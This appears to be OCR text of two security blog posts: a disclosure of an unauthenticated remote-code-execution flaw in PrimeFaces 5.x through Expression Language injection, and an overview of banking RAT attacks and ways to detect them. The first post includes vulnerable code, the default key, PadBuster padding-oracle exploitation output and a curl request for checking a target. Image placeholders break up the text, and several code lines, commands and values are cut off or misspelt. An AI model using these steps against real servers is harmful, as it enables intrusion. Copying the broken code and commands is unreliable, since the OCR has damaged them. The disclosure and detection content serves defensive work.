Monday, February 15, 2016

RCE in OracleNetBeans Opensource Plugins: PrimeFaces 5.x Expression Language Injection

PrimeFaces is a open source User Interface (UI) component library for JavaServer Faces (JSF) based applications, since its release, PrimeFaces has been strongly supported by Oracle, particularly within the NetBeans world.

Disclosure Timeline

PrimeFaces team has been contacted on 20/06/2015 (7 months ago) providing  the following details. Unfortunately the vulnerability has still not been fixed.

PrimeFaces team was asking us to send a github pull request to the public PrimeFaces github dev group; since public pull requests can be read by anyone, we thought that we could link this public content to inform both developers and final users.

PrimeOracle and PrimeSecret Vulnerability Detail

The following two issues have been successfully exploited against PrimeFaces 5.x and 5.3.x, including but not limited to PrimeFaces 5.3.6 version.

The following video shows the impact of these vulnerabilities against a vulnerable Oracle Netbeans 8.0.2 setup with PrimeFaces plugin:

Security issues are cryptographic vulnerabilities that let unauthenticated users to inject arbitrary Expression Language code to PrimeFaces custom EL parser. Both issues have the same sink: EL expression evaluation.

In this post we shared a generic payload to execute a remote interactive command shell via EL .

These two Crypto issues have been called "PrimeSecret" and "PrimeOracle".

Eventually by abusing one of these issues any user can execute arbitrary code on the application server without authentication.

1) PrimeSecret is the default hard-coded passphrase toencrypt several PrimeFaces parameters such as "pfdrid" (by Stefano Di Paola).

2) PrimeOracle is the abuse of a Padding Oracle attack against the internal crypto algorithm that decrypts several parameters such as "pfdrid" (by Giorgio Fedon).

The common vulnerable sink for both security issues is the PrimeFaces Streamed Content Handler that executes EL inline:


String dynamicContentId = (String)
String dynamicContentEL = strEn.decrypt(dynamicContentId);
ValueExpression ve =
dynamicContentEL, StreametreamedContent.class);
streamedContent = (StreamedContent) ve.getValue(eLContext);

In 2011 a user already reported to the dev team the dangerous impacts of EL injection:
StreamlinedContent is not a new sink to PrimeFaces dev community as clearly stated in that old post. However at that time the issue was much easier to be exploited.

In short we bypassed a partial security fix available in the newer versions of Primefaces to abuse a known vulnerability.


Vulnerable Code that leads to PrimeSecret:

file: "/org/primefaces/config/"

// By default encryption Key is the hardcoded string "primefaces"

secretKey = (value == null) ? "primefaces" : value;


Vulnerable Code that leads to PrimeOracle:

file: "/org/primefaces/util/"

// 8-bytes Salt <- Static IV
byte[] salt = {
(byte) 0xA9, (byte) 0x9B, (byte) 0xC8, (byte) 0x32,
(byte) 0x56, (byte) 0x34, (byte) 0xE3, (byte) 0x03

// Padding Oracle vulnerability since the DES cipher is CBC based
// and process encrypted text without verification (e.g. // HMAC)

KeySpec keySpec = new PBEKeySpec(passPhrase.toCharArray(),
salt, iterationCount);
SecretKey key=

Exploitation is easy with PadBuster

In the following example we are going to show the exploitation of  PrimeOracle issue. PrimeOracle exploit can be seen as a generic way to exploit both issues. With PrimeOracle is possible to obtain a resulting exploit parameter string that can be reused against all targets with the same password.

That resulting string obtained from a host vulnerable to Primesecret, will work against all the target with the default secretKey configuration parameter.First of all for this exploit to work you need a tool to exploit Padding Oracle Vulnerabilities like the beautiful PadBuster tool from GDS Security. Then you can choose any EL payload to be encrypt using the tool.

In this case the payload we have chosen is:

// Set a response Header with a value of "primesecretchk" Request Parameter

Note: Any EL can be executed: payloads can range from reading user session parameters, to arbitrary code execution that can lead to OScompromise.

Then just launch Padbuster with the following command:

"C24UkygWm3HMmnSxmDwoxw%3D%3D" 8 -encoding 0 -plaintext

| PadBuster - v0.3.3                        |
| Brian Holyfield - Gotham Digital Science  |
|                      |

INFO: The original request returned the following
[+] Status: 500
[+] Location: N/A[+] Content Length: 65766

INFO: Starting PadBuster Encrypt Mode
[+] Number of Blocks: 14

INFO: No error string was provided...starting response analysis

*** Response Analysis Complete ***

The following response signatures were returned:

ID#    Freq    Status    Length    Location
1    1    500    65715    N/A
2 **    255    200    0    N/A

Enter an ID that matches the error condition
NOTE: The ID# marked with ** is recommended :2

** Finished ***

[+] Encrypted value is:


To check if the application is vulnerable:

chk="123445456"; curl -X POST
-ki -kvvv -d "pfdrt=sc&ln=primefaces&pfdrid=$enc&primesecretchk=$chk"| grep $chk

primesecretchk: 123445456

//Note: the previous request will work against all systems vulnerable to PrimeSecret! Since // has been generated on a host with "primefaces" secretKeyThe application is vulnerable because of the new added response header: "primesecretchk: 123445456"


Since an official patch is still not available end users and companies can protect their application by disabling

Alternatively by filtering incoming requests with pfdrid parameter (value longer than 16bytes and Base64 encoded) and "pfdrt=sc" is possible to mitigate the attack: "pfdrt=sc" calls the vulnerable StreamedContent Method and pfdrid contains the exploit payload.

Isn't enough to change the default "secretKey"?Unfortunately not: changing the default secretKey is not enough because of the padding oracle vulnerability issue that in this post has been named PrimeOracle.Friday, February 5, 2016

RAT WARS 2.0: Advanced Techniques for Detecting RAT Screen Control

In the landscape of web maliciousness Remote Administration Trojans [1] are not a new trend but their usage is still strong and growing steady.

At its core a RAT is a backdoor facility usedto let an attacker enter unnoticed into the victim computer to control it remotely: for example most banking trojan nowadays are using remote desktop modules to open a VNC/RDP channel to allow an attacker to exfiltrate the money from within the users browser inside its legit session.

Newer sophisticated malware like Dyre are stepped up the game by completely diverting the user on fake banking portals while keeping the login session alive in the background, and once the user has disclosed the required credentials, the attacker connect to the user machine via a remote desktop channel and perform the wire fraud unnoticed.

RAT Screen Control

The usual attack is comprised by two phases.

The first step is when a Dyre infected user enter the banking website location inside the browser and the request is proxied by the malware to a fake website that is identical to the bank website just after the real login. In the background Dyre keep the real banking session open.
The second phase happens as soon as the attacker receives an automated Jabbernotification with user session data and a VNC callback to a protected terminal server. He then starts interacting with the user by sending challenging questions, fake pages and fake login field to the fake browsing session to the user. The user start answering the attackers forms providing needed information while the attacker starts a screen control session towards the user PC to use the real user session to perform the wire fraud.

This is why this kind of attack it is so hard to detect: for the most part the attack killchain [2] is happening out of reach from the bank's anti fraud capabilities. The only exception is the final exfiltration phase when the only thing left is the chance to detect the attacker session, but even then the attacker is coming from within the legit user session making things harder.
These inner weaknesses of classic agentless fraud detection techniques are the reason behind the increase of popularity and sophistication of this kind of attacks.Since what agentless fraud detections can do is to detect infected users or detect the attacker session by diverting users to web fakes and masquerading the attacker session there is a high chance to nullify the whole detection.

Then how can a bank portal understand what’s going on if what they see is a session initiated from the usual user’s ip address, from the usual user’s browser fingerprint, without any kind of webinject/AST or other common indicators of compromise?

Advanced RAT detection techniques.

To respond to this new kind of fraud Minded Security has started to research viable detection techniques and implemented a new solution based on Telemetry Modeling.

This is a short description of the viable detection techniques: Desktop Properties Detection, Detection of Velocity Pings or Session Keepalives, Telemetry Modeling of User Biometrics, TelemetryModeling of Protocols and IOC Detection.

Desktop Properties Detection

This is the most basic detection whose point is to detect anomalies in the properties of the browser/desktop used: for example older RDPprotocols might alter the color depth, or hidden VNC session may have unusual desktop resolutions.

Those indicators can be tracked and then correlated to build a detection.

Detection of Velocity Pings or Session Keepalives

While waiting for the user to disclose his PIN/OTP the attacker must keep the user session alive if he want to use it later to perform a wire transfer. This is what “velocity pings” are for: periodic faster HTTP requestswhose goal is to keep the session alive.

The requests cadence, their content can be used to build an indicator of compromise and trigger a detection.

Telemetry Modeling of User Biometrics

The point of this approach is to track the user telemetry (keyboard usage, mouse movements, input gestures) to build a model of the user. Once the model is built it is used as yardstick in an anomaly detection context: the output provided give an insight if the current session is being used by the usual users.

Unfortunately while this information is indeed useful, the weaknesses are manifold.
First the infrastructure needed is far from lightweight: it needs to store big data for the user models and has to run complex machine learning algorithms nearly real time to perform the anomaly detection. This means a complex and expensive infrastructure.Secondly the detection is fooled in the corner case of a single machine shared by different people, think of a corporate environment [3].

Telemetry Modeling of Protocols

This detection is one of the most advanced and relies on tracking glitches and anomalies in how the user’s telemetry is transmitted by the desktop remote protocol.

For example if there is a remote desktop in place, the telemetry data is compressed and passed trough by the remote desktop protocol itself or if the user is browsing the bank page trough a virtual machine, the input is filtered by the VM layer. All these added software layers operates to synchronize between the input received and the input reproduced adding glitches that could be tracked as anomalies.

This let to have a very light engine that is able to lively catch latency generated by user interface flowing through filter-driver chains. Typically VM guest environments and remote control tools install additional layered interfaces to replicate cursor positions and this creates latency patterns we can detect.

Once these anomalies are collected they are used to understand in real time if there is a remote connection in place. We provide this detection approach in our anti fraud suite AMT - RATDET Module.

IOCDetection

A malware infection can alter the profile of the user’s machine/browser and these alterations could be tracked and used as indicators of compromise to flag the user as a potential victim of fraud.

Or it could be possible to check the existence of certain files on the user file system, like suspicious executables, hidden vnc servers and others that can be used as an evidence of infection.

As an example here is a brief proof of concept that is also used by common exploit kits:

These indicators vary frommalware to malware but are indeed very useful to prevent a fraud in the early stage of the killchain, as soon the user is infected and before the exfiltration is put in place.

In conclusion In this rat-race against financial malware there is not a de facto detection to be used: malware are constantly evolving and so should our defense techniques

